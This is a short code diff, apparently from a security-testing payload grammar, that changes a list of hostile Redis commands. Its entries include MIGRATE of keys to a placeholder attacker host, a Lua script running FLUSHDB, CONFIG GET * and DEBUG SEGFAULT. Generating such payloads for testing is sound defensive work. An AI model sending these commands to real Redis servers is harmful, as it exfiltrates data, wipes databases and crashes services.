@@ -19,8 +19,7 @@ const redisCommand: Rule = oneOf(
   text`MIGRATE ${attackerHost} 6379 "" 0 5000 KEYS ${token}`,
   text`SCRIPT LOAD "return redis.call('${oneOf('KEYS', 'FLUSHDB')}','*')"`,
   'CONFIG GET *',
-  'KEYS *',
-  'SAVE',
+  'BGREWRITEAOF',
   'DEBUG SEGFAULT',
 );
 const redis: Rule = oneOf(
